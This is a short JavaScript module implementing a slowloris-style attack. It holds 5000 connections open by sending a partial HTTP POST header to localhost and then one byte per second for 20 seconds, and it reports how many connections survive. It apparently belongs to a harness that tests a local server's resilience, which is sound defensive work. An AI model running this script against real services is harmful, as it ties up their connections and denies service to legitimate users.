import { pause } from '../target.js';

const COUNT = 5000;
const HEAD = 'POST /v4/openim/sendmsg HTTP/1.1\r\nhost: localhost\r\nx: ';
const SECONDS = 20;

export const about = `${COUNT} requests whose headers come a byte a second, for ${SECONDS} s`;

export async function attack(target) {
  let open = 0;
  const lines = Array.from({ length: COUNT }, () => {
    const line = target.line();
    line.on('connect', () => open++);
    line.on('data', () => {});
    line.on('close', () => open--);
    return line;
  });
  for (let second = 0; second < SECONDS; second++) {
    for (const line of lines) if (line.writable) line.write(second === 0 ? HEAD : 'x');
    await pause(1000);
  }
  const left = open;
  for (const line of lines) line.destroy();
  return `${left} of ${COUNT} are still open`;
}
